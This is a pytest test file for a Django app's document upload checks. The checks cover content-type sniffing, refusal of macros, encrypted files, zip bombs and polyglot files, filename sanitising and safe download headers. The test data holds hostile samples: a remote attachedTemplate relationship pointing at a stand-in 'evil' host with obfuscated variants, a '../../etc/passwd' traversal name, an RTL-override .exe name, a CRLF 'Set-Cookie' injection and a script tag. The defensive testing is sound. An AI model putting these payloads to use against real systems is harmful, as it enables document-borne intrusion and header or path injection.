# SPDX-License-Identifier: Apache-2.0
"""Documents: taken by what they are, kept as they came, given as downloads."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.http import Http404

from kairan.audit.actors import PROGRAM
from kairan.files import documents, sweep
from kairan.files.documents import erase_document, look_at, safe_name, store_document
from kairan.files.models import StoredDocument
from kairan.files.photos import FileRefused
from kairan.files.responses import document_response
from kairan.files.tasks import remove_document
from kairan.lib.sheets import as_xlsx
from tests.cast import Cast
from tests.files.papers import PDF, an_archive, encrypted, lying, office, types
from tests.files.pictures import jpeg

LINK = b'<Relationship Type="x/hyperlink" Target="https://a/?b&amp;c" TargetMode="External"/>'
REMOTE = (
    b'<Relationship Type="x/attachedTemplate" Target="http://evil/a.dotm" TargetMode="External"/>'
)
ENDLESS = b"".join(b"attachedTemplate%d " % n for n in range(80_000))
SPELT = REMOTE.replace(b"External", b"&#x45;xternal").replace(b"attachedT", b"attached&#84;")
TURNED = b'<Relationship TargetMode="External" Type="x/attachedTemplate" Target="http://evil/a"/>'


@pytest.mark.parametrize(
    ("content", "name", "ending"),
    [
        (PDF, "回覧.pdf", "pdf"),
        (PDF, "名前だけ.exe", "pdf"),
        (office("docx"), "a.docx", "docx"),
        (office("xlsx"), "a.docx", "xlsx"),
        (office(word___rels__document_0xml_0rels=LINK), "a.docx", "docx"),
        (office(word___rels__document_0xml_0rels=b"<a " + ENDLESS), "a.docx", "docx"),
        (office(index=b"\xef\xbb\xbf" + types()), "a.docx", "docx"),
        (b"".join(as_xlsx([("回覧", 1)], sheet="表")), "b.xlsx", "xlsx"),
        (office("pptx"), "a", "pptx"),
        ("名前,電話\n山田,096".encode(), "名簿.csv", "csv"),
        ("名前,電話\r\n山田,096".encode("cp932"), "名簿.CSV", "csv"),
        ("名前\t電話".encode("utf-16"), "メモ.txt", "txt"),
        (b"<script>alert(1)</script>", "a.txt", "txt"),
    ],
)
def test_taken_is_what_it_is_not_what_it_is_called(content: bytes, name: str, ending: str) -> None:
    assert look_at(ContentFile(content), name).ending == ending


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (b"", "a.pdf", "empty"),
        (b"MZ\x90\x00", "a.pdf", "not_taken"),
        (b"<html>", "a.html", "not_taken"),
        (b"\x00\x01\x02", "a.txt", "not_taken"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", "a.doc", "old_or_locked"),
        (b"%PDF-1.7 no end", "a.pdf", "broken"),
        (b"x" * 20 + PDF, "a.txt", "not_taken"),
        (PDF + an_archive(), "a.pdf", "two_in_one"),
        (PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root"), "a.pdf", "locked"),
        (an_archive(), "a.docx", "not_taken"),
        (b"a,b\n" + an_archive(), "a.csv", "two_in_one"),
        (office(word__vbaProject_0bin=b"x"), "a.docx", "macros"),
        (office(word__VBAPROJECT_0BIN=b"x"), "a.docx", "macros"),
        (office("xlsx", xl__macrosheets__sheet1_0xml=b"x"), "a.xlsx", "macros"),
        (office(word__activeX__activeX1_0xml=b"x"), "a.docx", "macros"),
        (office(index=types(macros=True)), "a.docx", "macros"),
        (office(index=types(macros=True).decode().encode("utf-16")), "a.docx", "macros"),
        (office(word___rels__settings_0xml_0rels=REMOTE), "a.docx", "macros"),
        (office(word___rels__settings_0xml_0rels=TURNED), "a.docx", "macros"),
        (office(word___rels__settings_0xml_0rels=b"<a " + ENDLESS + REMOTE), "a.docx", "macros"),
        (office(word___rels__other_0xml_0RELS=REMOTE), "a.docx", "macros"),
        (office(word___rels__settings_0xml_0rels=SPELT), "a.docx", "macros"),
        (office(index=types(macros=True).replace(b"macroE", b"macro&#69;")), "a.docx", "macros"),
        (office(index=types(macros=True).decode().encode("utf-16-le")), "a.docx", "macros"),
        (office(index=b'<?xml encoding="UTF-7"?>' + types()), "a.docx", "not_taken"),
        (office(index=b"<!DOCTYPE a []>" + types()), "a.docx", "not_taken"),
        (office(WORD__DOCUMENT_0XML=b"x"), "a.docx", "two_in_one"),
        (office("docx", index=types("xlsx")), "a.docx", "not_taken"),
        (encrypted(office()), "a.docx", "locked"),
        (lying(office(word__media_0bin=b"x" * 1000)), "a.docx", "broken"),
        (office()[:-30], "a.docx", "broken"),
        (office(word__media_0bin=b"\0" * 30_000_000), "a.docx", "unfolds"),
    ],
)
def test_refused_with_a_reason(content: bytes, name: str, code: str) -> None:
    with pytest.raises(FileRefused) as refused:
        look_at(ContentFile(content), name)
    assert refused.value.code == code
    assert refused.value.reason.endswith("。")


def test_an_archive_behind_something_before_it_is_two_things() -> None:
    before_it = b"PK\x03\x04" + b"\0" * 40 + office()
    with pytest.raises(FileRefused, match="two_in_one"):
        look_at(ContentFile(before_it), "a.docx")
    assert documents.has_zip_behind(ContentFile(jpeg() + an_archive()))
    assert not documents.has_zip_behind(ContentFile(jpeg() + b"PK\x05\x06 by chance"))


def test_too_large_is_refused_before_it_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "MAX_DOCUMENT_BYTES", 10)
    with pytest.raises(FileRefused, match="too_big"):
        look_at(ContentFile(PDF), "a.pdf")


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("報告書.pdf", "報告書.pdf"),
        ("報告書.PDF", "報告書.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\a\\gpj.\u202eexe.pdf", "gpj.exe.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
        ("", "ファイル.pdf"),
        ("長" * 500 + ".pdf", "長" * 196 + ".pdf"),
    ],
)
def test_names_are_plain(name: str, kept: str) -> None:
    assert safe_name(name, "pdf") == kept


def test_a_document_goes_out_as_a_download_alone(hinokuni: Cast, store: Path) -> None:
    stored = store_document(acting=PROGRAM, content=ContentFile(PDF), name="回覧 9月.pdf")
    answer = document_response(stored)
    assert b"".join(answer.streaming_content) == PDF  # type: ignore[attr-defined]
    assert answer["Content-Disposition"].startswith("attachment; filename*=utf-8''")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer["Content-Security-Policy"]
    assert answer["Content-Type"] == "application/pdf"


def test_an_erased_document_is_gone(hinokuni: Cast, store: Path) -> None:
    stored = store_document(acting=PROGRAM, content=ContentFile(PDF), name="回覧.pdf")
    erase_document(acting=PROGRAM, document=stored)
    erase_document(acting=PROGRAM, document=stored)
    assert (stored.is_stored, stored.name) == (False, "")
    with pytest.raises(Http404):
        document_response(stored)
    remove_document.task.func(municipality_id=hinokuni.hinokuni.pk, key=str(stored.key))
    assert not (store / stored.path()).exists()


def test_bytes_without_a_row_are_swept(
    hinokuni: Cast, store: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kept = store_document(acting=PROGRAM, content=ContentFile(PDF), name="a.pdf")
    lost = store_document(acting=PROGRAM, content=ContentFile(PDF), name="b.pdf")
    path = store / lost.path()
    StoredDocument.objects.filter(pk=lost.pk).delete()
    assert sweep.sweep() == 0
    monkeypatch.setattr(sweep, "MIN_AGE", timedelta(seconds=-5))
    assert sweep.sweep() == 1
    assert not path.exists()
    assert (store / kept.path()).exists()
